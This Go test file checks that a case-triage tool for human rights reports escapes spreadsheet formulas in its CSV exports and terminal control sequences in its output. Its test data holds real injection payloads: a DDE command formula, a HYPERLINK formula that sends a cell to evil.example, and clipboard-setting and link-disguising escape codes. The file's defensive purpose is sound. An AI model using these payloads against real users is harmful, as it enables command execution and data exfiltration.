package main

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/vigil-hrd/vigil/broadcast"
	"github.com/vigil-hrd/vigil/flows"
	"github.com/vigil-hrd/vigil/internal/testenv"
	"github.com/vigil-hrd/vigil/internal/textsafe"
	"github.com/vigil-hrd/vigil/store"
	"github.com/vigil-hrd/vigil/triage"
)

// staffRun runs vigil with vars and fails the test unless it exits 0.
func staffRun(t *testing.T, vars map[string]string, args ...string) string {
	t.Helper()
	out, stderr, code := vigil(t, vars, "", args...)
	if code != 0 {
		t.Fatalf("vigil %q: exit %d\n%s%s", args, code, shown(out), shown(stderr))
	}
	return out
}

// TestCSVKeepsFormulasText: a defender's answer that a spreadsheet would
// read as a formula reaches every CSV the staff tools write as text (a
// single quote before it), and the JSON export keeps it exact.
func TestCSVKeepsFormulasText(t *testing.T) {
	env := testenv.New(t)
	hostile := map[string]string{
		"when_detail":    "+1+1",
		"place":          "=cmd|' /C calc'!A0",
		"description":    `=HYPERLINK("https://evil.example/?"&A2,"details")`,
		"contact_detail": "@SUM(A1:A9)",
		"country":        "=HYPERLINK(1)",
		"affected":       "-2+3",
	}
	answers := map[string]any{"what": []any{"raid"}, "contact": "yes"}
	for k, v := range hostile {
		answers[k] = v
	}
	env.Seed(t, flows.Report{Schema: flows.ReportSchema, Ref: "EEEE-0001", ReceivedAt: time.Now(), Language: "en", Answers: answers})
	vars := staffVars(env, "ana")

	csvFile := filepath.Join(t.TempDir(), "cases.csv")
	staffRun(t, vars, "triage", "export", "--format", "csv", "-o", csvFile)
	data, err := os.ReadFile(csvFile)
	if err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, string(data))
	if len(rows) != 2 {
		t.Fatalf("export has %d rows, want the header and one case:\n%s", len(rows), data)
	}
	got := map[string]string{}
	for i, name := range rows[0] {
		got[name] = rows[1][i]
	}
	for column, answer := range map[string]string{"event_date_text": "when_detail", "local_geographical_area": "place",
		"event_description": "description", "contact_detail": "contact_detail", "geographical_term": "country", "victim_type": "affected"} {
		if want := "'" + hostile[answer]; got[column] != want {
			t.Errorf("export column %s = %q, want %q", column, got[column], want)
		}
	}

	statsCSV := readCSV(t, staffRun(t, vars, "triage", "stats", "--by", "country", "--csv"))
	if len(statsCSV) != 2 || statsCSV[1][0] != "'=HYPERLINK(1)" {
		t.Errorf("stats --csv: %q", statsCSV)
	}
	noFormula(t, "stats --csv", statsCSV)
	noFormula(t, "export", rows)

	jsonFile := filepath.Join(t.TempDir(), "cases.json")
	staffRun(t, vars, "triage", "export", "--format", "json", "-o", jsonFile)
	data, _ = os.ReadFile(jsonFile)
	var recs []triage.Record
	if err := json.Unmarshal(data, &recs); err != nil || len(recs) != 1 {
		t.Fatalf("json export: %v\n%s", err, data)
	}
	if recs[0].LocalGeographicalArea != hostile["place"] || recs[0].Description != hostile["description"] {
		t.Errorf("the JSON export changed the answers: %+v", recs[0])
	}
}

func readCSV(t *testing.T, s string) [][]string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(s)).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, s)
	}
	return rows
}

// noFormula fails if a cell of rows starts as a formula would.
func noFormula(t *testing.T, what string, rows [][]string) {
	t.Helper()
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("%s: cell %q would be read as a formula", what, cell)
			}
		}
	}
}

// hostile is text a terminal would obey: clear the screen, move up and
// erase a line, set the clipboard (OSC 52), a disguised link (OSC 8), a C1
// CSI, DEL, BEL, and a right-to-left override; then Arabic and Hebrew,
// which must still read right to left.
const hostile = "\x1b[2J\x1b[1A\x1b[2K\x1b]52;c;cHduZWQ=\x07\x1b]8;;https://evil.example\x1b\\mission.eu\x1b]8;;\x1b\\" +
	" \u009b31m \x7f \u202edesolc\u202c شكرا لكم שלום"

// hostileShown is how the human-readable outputs print hostile.
const hostileShown = `\x1b[2J\x1b[1A\x1b[2K\x1b]52;c;cHduZWQ=\x07\x1b]8;;https://evil.example\x1b\mission.eu\x1b]8;;\x1b\` +
	` \u009b31m \x7f \u202edesolc\u202c شكرا لكم שלום`

// noControls fails if out holds a character a terminal would obey: a C0
// control other than line feed and tab, DEL, a C1 control, a
// bidirectional embedding or override, or an isolate not closed on its
// line (Vigil's messages isolate a defender's words; see textsafe).
func noControls(t *testing.T, what, out string) {
	t.Helper()
	for _, line := range strings.Split(out, "\n") {
		open := 0
		for _, r := range line {
			switch {
			case r < 0x20 && r != '\t', r >= 0x7f && r <= 0x9f, r >= 0x202a && r <= 0x202e, r == 0x2069 && open == 0:
				t.Errorf("%s prints %U raw:\n%s", what, r, shown(out))
				return
			case r >= 0x2066 && r <= 0x2068:
				open++
			case r == 0x2069:
				open--
			}
		}
		if open > 0 {
			t.Errorf("%s leaves an isolate open:\n%s", what, shown(out))
			return
		}
	}
}

// shown is out for a test's failure message: escaped, so that a failing
// test does not clear the terminal of the person running it.
func shown(out string) string { return textsafe.Terminal(out) }

// TestTriagePrintsControlsEscaped: what a defender wrote, a staff name, a
// note and an evidence file's name reach show, list, audit and the errors
// with their control characters escaped; --json keeps them exact.
func TestTriagePrintsControlsEscaped(t *testing.T) {
	env := testenv.New(t)
	ref := env.Defender(t, 9).Submit(hostile, true)
	env.Seed(t, flows.Report{Schema: flows.ReportSchema, Ref: "EEEE-0002", ReceivedAt: time.Now(), Language: "ar",
		Answers: map[string]any{"country": "UA", "what": []any{"raid"}, "contact": "no"},
		Evidence: []flows.Evidence{{Kind: "document", Name: "photo\x1b[2J.jpg", Caption: hostile, MIME: "image/jpeg\x1b]8;;x\x1b\\",
			Size: 3, SHA256: strings.Repeat("0", 64), ReceivedAt: time.Now()}}})
	mallory := "mal\x1b]52;c;eA==\x07lory"
	benName := "ben\x1b[2J\u2067" // and a right-to-left isolate left open
	ana, mal := staffVars(env, "ana"), staffVars(env, mallory)

	staffRun(t, mal, "triage", "claim", ref)
	staffRun(t, mal, "triage", "status", ref, "triaged", "--reason", hostile)
	staffRun(t, mal, "triage", "note", ref, hostile)
	noControls(t, "assign", staffRun(t, mal, "triage", "assign", ref, benName))

	show := staffRun(t, ana, "triage", "show", ref)
	noControls(t, "show", show)
	for _, want := range []string{"place " + hostileShown, "description " + hostileShown, `assign: mal\x1b]52;c;eA==\x07lory -> ben\x1b[2J\u2067`,
		"\n      " + hostileShown} {
		if !strings.Contains(show, want) {
			t.Errorf("show lacks %q:\n%s", want, shown(show))
		}
	}
	evidence := staffRun(t, ana, "triage", "show", "EEEE-0002")
	noControls(t, "show of evidence", evidence)
	for _, want := range []string{`photo\x1b[2J.jpg`, "caption: " + hostileShown, `image/jpeg\x1b]8;;x\x1b\`} {
		if !strings.Contains(evidence, want) {
			t.Errorf("show of evidence lacks %q:\n%s", want, shown(evidence))
		}
	}
	list := staffRun(t, ana, "triage", "list", "--status", "all")
	noControls(t, "list", list)
	if !strings.Contains(list, `ben\x1b[2J\u2067`) {
		t.Errorf("list lacks the holder:\n%s", shown(list))
	}
	audit := staffRun(t, ana, "triage", "audit")
	noControls(t, "audit", audit)
	if !strings.Contains(audit, `mal\x1b]52;c;eA==\x07lory`) {
		t.Errorf("audit lacks mallory:\n%s", shown(audit))
	}
	_, stderr, code := vigil(t, ana, "", "triage", "status", ref, "closed")
	noControls(t, "an error", stderr)
	if code == 0 || !strings.Contains(stderr, `held by ben\x1b[2J\u2067`) {
		t.Errorf("status of a case held by another: exit %d, %s", code, shown(stderr))
	}

	// --json is for scripts: exact.
	var js struct {
		Case struct {
			Assignee string       `json:"assignee"`
			Report   flows.Report `json:"report"`
		} `json:"case"`
		History []struct{ Type, By, Text string } `json:"history"`
	}
	if err := json.Unmarshal([]byte(staffRun(t, ana, "triage", "show", ref, "--json")), &js); err != nil {
		t.Fatal(err)
	}
	if js.Case.Report.Answers["place"] != "place "+hostile || js.Case.Assignee != benName {
		t.Errorf("show --json changed the answers or the holder: %q %q", js.Case.Report.Answers["place"], js.Case.Assignee)
	}
	var note bool
	for _, s := range js.History {
		note = note || s.Type == "note" && s.By == mallory && s.Text == hostile
	}
	if !note {
		t.Errorf("show --json changed the note: %q", js.History)
	}
	var entries []struct{ Who string }
	if err := json.Unmarshal([]byte(staffRun(t, ana, "triage", "audit", "--json")), &entries); err != nil || len(entries) == 0 || entries[0].Who != mallory {
		t.Errorf("audit --json: %v %q", err, entries)
	}
}

// TestConsolePrintsControlsEscaped: the console quotes the defender's
// answers and shows staff replies; neither reaches the terminal raw.
func TestConsolePrintsControlsEscaped(t *testing.T) {
	env := testenv.New(t)
	vars := consoleVars(env)
	out, stderr, code := vigil(t, vars, consoleReport(hostile, "They searched the office."), "console")
	if code != 0 {
		t.Fatalf("console: exit %d\n%s\n%s", code, shown(out), shown(stderr))
	}
	noControls(t, "the console", out)
	if !strings.Contains(out, hostileShown) {
		t.Errorf("the console does not quote the place:\n%s", shown(out))
	}
	refs := env.Queue(t)
	if len(refs) != 1 {
		t.Fatalf("queue %v", refs)
	}
	staffRun(t, vars, "triage", "reply", refs[0], hostile)
	out, _, _ = vigil(t, vars, "\n", "console")
	noControls(t, "the console with a reply", out)
	if !strings.Contains(out, hostileShown) {
		t.Errorf("the console does not show the reply:\n%s", shown(out))
	}
}

// TestBroadcastShowPrintsControlsEscaped: a coordinator's text is printed
// for another coordinator with its control characters escaped.
func TestBroadcastShowPrintsControlsEscaped(t *testing.T) {
	env := testenv.New(t)
	p, _, err := env.As(t, "anna").Create(context.Background(), "anna",
		broadcast.Draft{Kind: store.KindBroadcast, Countries: []string{"UA"}, Texts: map[string]string{"en": hostile}})
	if err != nil {
		t.Fatal(err)
	}
	out := staffRun(t, staffVars(env, "ben"), "broadcast", "show", p.ID)
	noControls(t, "broadcast show", out)
	if !strings.Contains(out, hostileShown) {
		t.Errorf("broadcast show lacks the text:\n%s", shown(out))
	}
}
